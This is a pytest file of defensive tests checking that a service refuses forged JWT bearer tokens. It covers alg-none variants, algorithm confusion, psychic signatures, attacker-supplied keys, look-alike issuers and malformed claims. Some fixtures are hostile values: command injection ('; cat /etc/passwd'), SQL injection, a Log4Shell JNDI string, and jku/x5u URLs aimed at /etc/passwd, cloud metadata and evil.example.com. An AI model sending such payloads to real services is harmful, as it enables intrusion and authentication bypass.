"""Known attacks in which a service accepts a bearer token that it should refuse.

Each is named after what the attacker does, with the advisory that describes it, if any.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from issuer.authentication import from_bearer
from issuer.jwks import SigningKeys
from issuer.problems import Problem
from tests.support.bearer import (
    AUDIENCE,
    ISSUER,
    JWKS_URI,
    JwksEndpoint,
    Signer,
    claims,
    jws,
    policy,
    signer,
)
from tests.support.table import table
from zego.bounded_http import Response
from zego.policy.model import BearerIdentity, Caller

IDP = signer()
MALLORY = signer(owner="mallory")
ANOTHER_KEY_ID = signer(key_id="mallory-1", owner="mallory")


def attempt(
    token: str,
    *,
    algorithms: tuple[str, ...] = ("RS256",),
    endpoint: JwksEndpoint | None = None,
) -> Caller:
    """Returns the caller that the service authenticates by this token."""
    keys = SigningKeys(endpoint or JwksEndpoint(IDP.jwk))
    return from_bearer(f"Bearer {token}", policy(algorithms=algorithms), keys)


def refused(
    token: str,
    *,
    algorithms: tuple[str, ...] = ("RS256",),
    endpoint: JwksEndpoint | None = None,
) -> str:
    """Returns the code with which the service refuses a token."""
    with pytest.raises(Problem) as problem:
        attempt(token, algorithms=algorithms, endpoint=endpoint)
    assert problem.value.type.status == 401
    return problem.value.code


def hmac_with(key: bytes, digest: str) -> Callable[[bytes], bytes]:
    return lambda message: hmac.new(key, message, digest).digest()


def unbound(owner: Signer) -> JwksEndpoint:
    """Returns a JWKS whose key does not name its algorithm."""
    jwk = owner.jwk
    del jwk["alg"]
    return JwksEndpoint(jwk)


# --- The algorithm ------------------------------------------------------------------------------


@pytest.mark.parametrize("signature", [b"", b"anything"], ids=["unsigned", "with a signature"])
@pytest.mark.parametrize(
    "name", ["none", "None", "NONE", "nOnE", "none ", " none", "non\u0435", ""]
)
def test_alg_none_in_any_casing_is_refused(name: str, signature: bytes) -> None:
    """CVE-2022-23540 and many similar ones."""
    token = jws({"alg": name, "kid": "key-1"}, claims(), lambda _: signature)
    assert refused(token) == "bearer_algorithm_refused"


@pytest.mark.parametrize("name", [None, True, 0, [], ["RS256"], {"RS256": 1}, "rs256", "RS256\0"])
def test_an_alg_that_only_resembles_the_right_one_is_refused(name: object) -> None:
    token = IDP.sign(claims(), algorithm="RS256")
    header, payload, signature = token.split(".")
    forged = jws({"alg": name, "kid": "key-1"}, claims()).split(".")[0]
    assert forged != header
    assert refused(f"{forged}.{payload}.{signature}") == "bearer_algorithm_refused"


def test_a_token_without_an_alg_is_refused() -> None:
    assert refused(jws({"kid": "key-1"}, claims())) == "bearer_algorithm_refused"


PUBLIC_KEY = IDP.private_key.public_key()
PUBLIC_KEY_AS_TEXT = {
    "PEM": IDP.pem,
    "PEM without the last newline": IDP.pem.rstrip(b"\n"),
    "PEM with carriage returns": IDP.pem.replace(b"\n", b"\r\n"),
    "PKCS#1 PEM": PUBLIC_KEY.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
    "DER": PUBLIC_KEY.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "OpenSSH": PUBLIC_KEY.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
    "JWK": json.dumps(IDP.jwk).encode(),
    "modulus": str(IDP.jwk["n"]).encode(),
}


@table("digest", ["sha256", "sha384", "sha512"])
@table("key", PUBLIC_KEY_AS_TEXT.values(), ids=PUBLIC_KEY_AS_TEXT)
def test_an_hmac_keyed_with_the_public_key_is_refused(key: bytes, digest: str) -> None:
    """CVE-2017-11424, CVE-2022-29217, CVE-2024-33663: a public key is not secret."""
    header = {"alg": f"HS{digest[3:]}", "kid": "key-1"}
    assert refused(jws(header, claims(), hmac_with(key, digest))) == "bearer_algorithm_refused"


def test_an_hmac_that_claims_the_right_algorithm_is_a_bad_signature() -> None:
    token = jws({"alg": "RS256", "kid": "key-1"}, claims(), hmac_with(IDP.pem, "sha256"))
    assert refused(token) == "bearer_bad_signature"


def test_a_symmetric_key_in_the_jwks_is_not_used() -> None:
    secret = b"a shared secret of 32 characters"
    jwk = {"kty": "oct", "kid": "key-1", "k": base64.urlsafe_b64encode(secret).decode()}
    endpoint = JwksEndpoint(jwk, signer("EdDSA", "beside").jwk)
    for name in ("HS256", "RS256"):
        token = jws({"alg": name, "kid": "key-1"}, claims(), hmac_with(secret, "sha256"))
        expected = "bearer_unknown_key" if name == "RS256" else "bearer_algorithm_refused"
        assert refused(token, endpoint=endpoint) == expected


@pytest.mark.parametrize(("bound", "used"), [("RS256", "PS256"), ("PS256", "RS256")])
def test_a_key_for_one_rsa_algorithm_verifies_no_other(bound: str, used: str) -> None:
    endpoint = JwksEndpoint(IDP.jwk | {"alg": bound})
    token = IDP.sign(claims(), algorithm=used)
    assert refused(token, algorithms=("RS256", "PS256"), endpoint=endpoint) == "bearer_unknown_key"


@pytest.mark.parametrize(("signed", "said"), [("RS256", "PS256"), ("PS256", "RS256")])
def test_a_signature_is_checked_with_the_algorithm_in_the_header(signed: str, said: str) -> None:
    token = jws(
        {"alg": said, "kid": "key-1"}, claims(), lambda message: IDP.signature(message, signed)
    )
    algorithms = ("RS256", "PS256")
    assert refused(token, algorithms=algorithms, endpoint=unbound(IDP)) == "bearer_bad_signature"


@pytest.mark.parametrize("name", ["RS384", "RS512", "PS256", "ES256", "EdDSA"])
def test_a_good_algorithm_that_the_policy_does_not_name_is_refused(
    name: str,
) -> None:
    other = signer(name)
    assert refused(other.sign(claims()), endpoint=JwksEndpoint(other.jwk)) == (
        "bearer_algorithm_refused"
    )


@pytest.mark.parametrize("name", ["ES256", "ES384", "EdDSA"])
def test_a_key_of_one_type_is_not_used_as_one_of_another(name: str) -> None:
    token = jws({"alg": name, "kid": "key-1"}, claims(), lambda _: b"\1" * 64)
    assert refused(token, algorithms=("RS256", name), endpoint=unbound(IDP)) == "bearer_unknown_key"


@pytest.mark.parametrize(
    "signature",
    [bytes(64), b"", bytes(63), bytes(65), bytes(32) + b"\1" * 32, b"\xff" * 64, b"\x30\x06" * 4],
    ids=lambda signature: signature.hex() or "nothing",
)
def test_an_ecdsa_signature_of_zeros_is_a_bad_signature(signature: bytes) -> None:
    """CVE-2022-21449, psychic signatures."""
    token = jws({"alg": "ES256", "kid": "key-1"}, claims(), lambda _: signature)
    endpoint = JwksEndpoint(signer("ES256").jwk)
    assert refused(token, algorithms=("ES256",), endpoint=endpoint) == "bearer_bad_signature"


# --- The key ------------------------------------------------------------------------------------

THEIR_KEYS: dict[str, dict[str, Any]] = {
    "jku": {"jku": "https://evil.example.com/jwks.json"},
    "x5u": {"x5u": "https://evil.example.com/certificate.pem"},
    "jwk": {"jwk": MALLORY.jwk},
    "x5c": {"x5c": [base64.b64encode(MALLORY.pem).decode()]},
    "jwk and a private part": {"jwk": MALLORY.jwk | {"d": "AQAB"}},
    "all of them": {
        "jku": "file:///etc/passwd",
        "x5u": "http://169.254.169.254/latest/meta-data/",
        "jwk": MALLORY.jwk,
        "x5t": "AAAA",
    },
}


@pytest.mark.parametrize("header", THEIR_KEYS.values(), ids=THEIR_KEYS)
class TestKeysThatATokenBrings:
    """CVE-2018-0114: a token cannot choose the key that verifies it."""

    def test_under_a_known_key_id_it_is_a_bad_signature(self, header: dict[str, Any]) -> None:
        assert refused(MALLORY.sign(claims(), **header)) == "bearer_bad_signature"

    def test_with_an_unknown_key_id_the_key_is_unknown(self, header: dict[str, Any]) -> None:
        assert refused(ANOTHER_KEY_ID.sign(claims(), **header)) == "bearer_unknown_key"

    def test_without_a_key_id_it_is_a_bad_signature(self, header: dict[str, Any]) -> None:
        assert refused(MALLORY.sign(claims(), kid=None, **header)) == "bearer_bad_signature"

    def test_only_the_policys_jwks_is_requested(self, header: dict[str, Any]) -> None:
        endpoint = JwksEndpoint(IDP.jwk)
        refused(ANOTHER_KEY_ID.sign(claims(), **header), endpoint=endpoint)
        assert endpoint.requests == [JWKS_URI]

    def test_on_a_valid_token_it_is_ignored(self, header: dict[str, Any]) -> None:
        assert attempt(IDP.sign(claims(), **header)).user_id == "alice"


@pytest.mark.parametrize(
    "key_id",
    [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "https://evil.example.com/jwks.json",
        "key-1' OR '1'='1",
        "x' UNION SELECT 'key'--",
        "key-1; cat /etc/passwd",
        "${jndi:ldap://evil.example.com/a}",
        "{user_id}",
        "*",
        "key-*",
        "",
        " key-1",
        "key-1 ",
        "key-1\0",
        "key-1\0.pem",
        "KEY-1",
        "key\u20111",
        "\ud800",
        "None",
        "x" * 5000,
    ],
    ids=lambda key_id: ascii(key_id[:24]),
)
def test_a_key_id_is_only_compared(key_id: str) -> None:
    endpoint = JwksEndpoint(IDP.jwk)
    assert refused(MALLORY.sign(claims(), kid=key_id), endpoint=endpoint) == "bearer_unknown_key"
    assert endpoint.requests == [JWKS_URI]


@pytest.mark.parametrize("key_id", [0, 1.5, True, [], ["key-1"], {}, {"key-1": 1}], ids=str)
def test_a_key_id_that_is_not_text_is_malformed(key_id: object) -> None:
    assert refused(IDP.sign(claims(), kid=key_id)) == "bearer_malformed"


def test_the_key_of_another_trusted_issuer_is_not_accepted() -> None:
    partner = BearerIdentity(
        "partner",
        "https://partner.example.com/",
        (AUDIENCE,),
        "https://partner.example.com/jwks",
        ("RS256",),
        hashed_user_ids=True,
    )
    web = BearerIdentity("web", ISSUER, (AUDIENCE,), JWKS_URI, ("RS256",))
    theirs = signer(owner="partner")

    def fetch(uri: str) -> Response:
        return JwksEndpoint((IDP if uri == JWKS_URI else theirs).jwk)(uri)

    keys = SigningKeys(fetch)
    known = policy(web, partner)
    assert from_bearer(f"Bearer {IDP.sign(claims())}", known, keys).identity == "web"
    with pytest.raises(Problem) as problem:
        from_bearer(f"Bearer {theirs.sign(claims())}", known, keys)
    assert problem.value.code == "bearer_bad_signature"


# --- The claims ---------------------------------------------------------------------------------


def doubled(name: str, first: object, last: object) -> bytes:
    """Returns valid claims in which one name is repeated."""
    rest = json.dumps(claims(**{name: ...}))[1:-1]
    said = [f"{json.dumps(name)}: {json.dumps(value)}" for value in (first, last)]
    return f"{{{said[0]}, {rest}, {said[1]}}}".encode()


class TestRepeatedClaims:
    """RFC 7519, 4: if a name is repeated, the last one counts, wherever the claims are read."""

    def test_the_last_subject_counts(self) -> None:
        assert attempt(IDP.sign(doubled("sub", "alice", "bob"))).user_id == "bob"

    def test_the_issuer_whose_keys_are_used_is_the_one_that_is_verified(self) -> None:
        evil = "https://evil.example.com/"
        assert refused(IDP.sign(doubled("iss", ISSUER, evil))) == "bearer_untrusted_issuer"
        assert attempt(IDP.sign(doubled("iss", evil, ISSUER))).identity == "web"

    def test_the_last_audience_counts(self) -> None:
        assert refused(IDP.sign(doubled("aud", AUDIENCE, "other"))) == "bearer_wrong_audience"

    def test_the_last_expiry_counts(self) -> None:
        now = int(time.time())
        assert refused(IDP.sign(doubled("exp", now + 600, 0))) == "bearer_expired"

    @pytest.mark.parametrize(
        ("header", "code"),
        [
            (b'{"alg":"RS256","kid":"key-1","alg":"none"}', "bearer_algorithm_refused"),
            (b'{"alg":"none","kid":"key-1","alg":"RS256"}', "bearer_bad_signature"),
            (b'{"alg":"RS256","kid":"key-1","kid":"key-9"}', "bearer_unknown_key"),
        ],
    )
    def test_the_last_member_of_a_header_counts(self, header: bytes, code: str) -> None:
        assert refused(jws(header, claims())) == code


@pytest.mark.parametrize("audience", [[AUDIENCE], ["other", AUDIENCE], [AUDIENCE, AUDIENCE]])
def test_an_audience_list_that_contains_ours_is_accepted(audience: list[str]) -> None:
    assert attempt(IDP.sign(claims(aud=audience))).user_id == "alice"


@pytest.mark.parametrize(
    ("audience", "code"),
    [
        (["other"], "bearer_wrong_audience"),
        ([[AUDIENCE]], "bearer_malformed"),
        ([AUDIENCE, None], "bearer_malformed"),
        ([AUDIENCE, {}], "bearer_malformed"),
        ({AUDIENCE: True}, "bearer_malformed"),
        (True, "bearer_malformed"),
        (f"{AUDIENCE} other", "bearer_wrong_audience"),
        (f"other,{AUDIENCE}", "bearer_wrong_audience"),
        (AUDIENCE[:-1], "bearer_wrong_audience"),
        ("*", "bearer_wrong_audience"),
        ([], "bearer_wrong_audience"),
        ("", "bearer_missing_claim"),
        (None, "bearer_missing_claim"),
    ],
    ids=str,
)
def test_an_audience_without_ours_is_refused(audience: object, code: str) -> None:
    assert refused(IDP.sign(claims(aud=audience))) == code


HUGE = ["9" * 18, "9" * 30, "9" * 400, "9" * 4000, "1e300"]
HUGE_IDS = [f"{number[:3]}, {len(number)} characters" for number in HUGE]


class TestTimes:
    """RFC 7519, 2: a NumericDate is a JSON number."""

    def signed(self, claim: str, number: str) -> str:
        """Returns a token in which one time has exactly this JSON text; the rest is valid."""
        payload = json.dumps(claims(**{claim: "PLACE"})).replace('"PLACE"', number)
        return IDP.sign(payload.encode())

    @pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
    @pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "9" * 5000, "0x10", "01"])
    def test_a_time_that_is_not_a_json_number_is_malformed(self, claim: str, number: str) -> None:
        assert refused(self.signed(claim, number)) == "bearer_malformed"

    @pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
    @pytest.mark.parametrize("number", ["1e400", "-1e400"])
    def test_a_number_that_becomes_infinity_is_malformed(self, claim: str, number: str) -> None:
        assert refused(self.signed(claim, number)) == "bearer_malformed"

    @pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
    @pytest.mark.parametrize("value", ["now", "1e11", "99999999999", "0", " 1_700_000_000 "])
    def test_a_time_in_a_string_is_malformed(self, claim: str, value: str) -> None:
        assert refused(IDP.sign(claims(**{claim: value}))) == "bearer_malformed"

    @pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
    @pytest.mark.parametrize("value", [True, False, [], {}, [9999999999], {"$gt": 0}], ids=str)
    def test_a_time_of_another_type_is_malformed(self, claim: str, value: object) -> None:
        assert refused(IDP.sign(claims(**{claim: value}))) == "bearer_malformed"

    @pytest.mark.parametrize("number", ["9999999999", "99999999999", "99999999999.5"])
    def test_an_expiry_far_in_the_future_is_accepted(self, number: str) -> None:
        assert attempt(self.signed("exp", number)).user_id == "alice"

    @pytest.mark.parametrize("number", ["100000000000", "1796000000000", *HUGE])
    def test_an_expiry_in_milliseconds_is_malformed(self, number: str) -> None:
        """Otherwise a token that should live for an hour would live for 50,000 years."""
        assert refused(self.signed("exp", number)) == "bearer_malformed"

    @pytest.mark.parametrize("claim", ["iat", "nbf"])
    @pytest.mark.parametrize("number", HUGE, ids=HUGE_IDS)
    def test_a_start_far_in_the_future_is_not_yet_valid(self, claim: str, number: str) -> None:
        assert refused(self.signed(claim, number)) == "bearer_not_yet_valid"

    @pytest.mark.parametrize("number", ["0", "-1", "0.5", "-0.0"])
    def test_an_expiry_long_ago_has_expired(self, number: str) -> None:
        assert refused(self.signed("exp", number)) == "bearer_expired"

    @pytest.mark.parametrize("number", HUGE, ids=HUGE_IDS)
    def test_a_hugely_negative_expiry_has_expired(self, number: str) -> None:
        assert refused(self.signed("exp", f"-{number}")) == "bearer_expired"


class TestSubjects:
    @pytest.mark.parametrize("subject", [1, 1.5, True, ["alice"], {"id": "alice"}], ids=str)
    def test_a_subject_that_is_not_text_is_malformed(self, subject: object) -> None:
        assert refused(IDP.sign(claims(sub=subject))) == "bearer_malformed"

    @pytest.mark.parametrize("subject", ["", None])
    def test_an_empty_subject_counts_as_missing(self, subject: str | None) -> None:
        assert refused(IDP.sign(claims(sub=subject))) == "bearer_missing_claim"

    @pytest.mark.parametrize(
        "subject",
        [
            "alice\0",
            "\0alice",
            "alice\0admin",
            "alice ",
            " alice",
            "alice\n",
            "al\u0131ce",
            "\u0430lice",
            "ali\u200bce",
            "alice\u0301",
            "\uff41lice",
            "\ud800alice",
            "alice/../bob",
        ],
        ids=ascii,
    )
    def test_subjects_that_look_alike_are_different_users(self, subject: str) -> None:
        """The whole subject is hashed: it is never shortened, folded or normalised."""
        user_id = attempt(IDP.sign(claims(sub=subject))).user_id
        assert user_id is not None
        assert user_id.startswith("u_")
        assert len(user_id) == 28
        digest = hashlib.sha256(f"{ISSUER}\0{subject}".encode("utf-8", "surrogatepass")).digest()
        assert user_id[2:] == base64.b32encode(digest).decode().lower()[:26]

    def test_a_subject_that_looks_hashed_does_not_become_another_user(self) -> None:
        victim = attempt(IDP.sign(claims(sub="auth0|victim"))).user_id
        assert attempt(IDP.sign(claims(sub=victim))).user_id != victim


@pytest.mark.parametrize(
    "issuer",
    [
        ISSUER.replace("example", "ex\u0430mple"),
        ISSUER.replace("login", "log\u0131n"),
        ISSUER.replace(".", "\u3002"),
        ISSUER.replace("/", "\u2044"),
        ISSUER.replace("example", "\uff45xample"),
        ISSUER.replace("login.example", "xn--login-example"),
        ISSUER.replace("https", "HTTPS"),
        ISSUER.replace("https", "http"),
        ISSUER.replace("login", "Login"),
        ISSUER.replace("example.com", "example.com."),
        ISSUER.replace("example.com", "example.com:443"),
        ISSUER.replace("https://", "https://login.example.com@evil."),
        ISSUER + "?",
        ISSUER + "#",
        ISSUER + "/",
        ISSUER + "../",
        ISSUER + "\0",
        ISSUER + " ",
        ISSUER + "\u200b",
        ISSUER.rstrip("/"),
        ISSUER.replace("login.", "login.example.com.evil."),
        "",
    ],
    ids=ascii,
)
def test_an_issuer_that_resembles_a_trusted_one_is_not_trusted(issuer: str) -> None:
    endpoint = JwksEndpoint(IDP.jwk)
    token = IDP.sign(claims(iss=issuer))
    assert refused(token, endpoint=endpoint) == "bearer_untrusted_issuer"
    assert endpoint.requests == []


@pytest.mark.parametrize("issuer", [[ISSUER], {ISSUER: 1}, 5, True, None], ids=str)
def test_an_issuer_that_is_not_text_counts_as_missing(issuer: object) -> None:
    assert refused(IDP.sign(claims(iss=issuer))) == "bearer_missing_claim"


# --- The form -----------------------------------------------------------------------------------


def test_a_jwt_within_a_jwt_is_malformed() -> None:
    inner = IDP.sign(claims())
    for payload in (inner.encode(), json.dumps(inner).encode()):
        assert refused(IDP.sign(payload, cty="JWT")) == "bearer_malformed"


def test_an_encrypted_token_is_malformed() -> None:
    header = jws({"alg": "RSA-OAEP", "enc": "A256GCM"}, {}).split(".")[0]
    assert refused(f"{header}.AA.AA.AA.AA") == "bearer_malformed"
    assert refused(f"{header}..AA.AA.AA") == "bearer_malformed"


@pytest.mark.parametrize(
    "document",
    [
        {"payload": "e30", "signatures": [{"signature": ""}]},
        {"payload": "e30", "protected": "e30", "signature": ""},
    ],
    ids=["general", "flattened"],
)
def test_a_token_as_json_is_malformed(document: dict[str, Any]) -> None:
    assert refused(json.dumps(document)) == "bearer_malformed"


def test_compressed_claims_are_malformed() -> None:
    """A decompression bomb, which the service does not unpack."""
    bomb = zlib.compress(json.dumps(claims(filler="x" * 1_000_000)).encode())
    assert refused(IDP.sign(bomb, zip="DEF")) == "bearer_malformed"


@pytest.mark.parametrize(
    "header",
    [
        {"crit": ["exp"]},
        {"crit": ["http://example.com/UNDEFINED"], "http://example.com/UNDEFINED": True},
        {"crit": []},
        {"crit": "b64"},
        {"crit": [1]},
        {"crit": {}},
        {"b64": False},
        {"b64": False, "crit": ["b64"]},
        {"b64": False, "crit": ["b64", "exp"]},
    ],
    ids=str,
)
def test_an_unknown_critical_header_is_malformed(
    header: dict[str, Any],
) -> None:
    """RFC 7515, 4.1.11, and RFC 7797."""
    assert refused(IDP.sign(claims(), **header)) == "bearer_malformed"


def test_a_detached_payload_is_malformed() -> None:
    head, _, signature = IDP.sign(claims(), b64=False, crit=["b64"]).split(".")
    assert refused(f"{head}..{signature}") == "bearer_malformed"


@pytest.mark.parametrize(
    "change",
    [
        lambda token: token.replace(".", "\n.", 1),
        lambda token: token.replace(".", " . ", 1),
        lambda token: token[:20] + "\n" + token[20:],
        lambda token: token[:20] + "!" + token[20:],
        lambda token: token[:-10] + "\0" + token[-10:],
        lambda token: f"{token},{token}",
        lambda token: f"{token}.{token}",
        lambda token: f"{token} {token}",
        lambda token: f'"{token}"',
        lambda token: f"{token}==",
        lambda token: token.replace(".", "=.", 1),
        lambda token: token.replace("-", "+").replace("_", "/") + "+",
    ],
    ids=range(12),
)
def test_extra_characters_in_or_around_a_token_are_malformed(change: Callable[[str], str]) -> None:
    assert refused(change(IDP.sign(claims()))) == "bearer_malformed"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-8-sig"])
@pytest.mark.parametrize("part", ["header", "claims"])
def test_a_part_in_another_encoding_is_malformed(part: str, encoding: str) -> None:
    """The looked-up and the verified issuer must not depend on how the bytes are decoded."""
    header = json.dumps({"alg": "RS256", "kid": "key-1"})
    payload = json.dumps(claims())
    token = jws(
        header.encode(encoding if part == "header" else "utf-8"),
        payload.encode(encoding if part == "claims" else "utf-8"),
        IDP.signature,
    )
    assert refused(token) == "bearer_malformed"


def test_a_long_token_is_refused_before_anything_is_decoded() -> None:
    endpoint = JwksEndpoint(IDP.jwk)
    token = IDP.sign(claims(filler="x" * 8192))
    assert refused(token, endpoint=endpoint) == "bearer_too_large"
    assert endpoint.requests == []
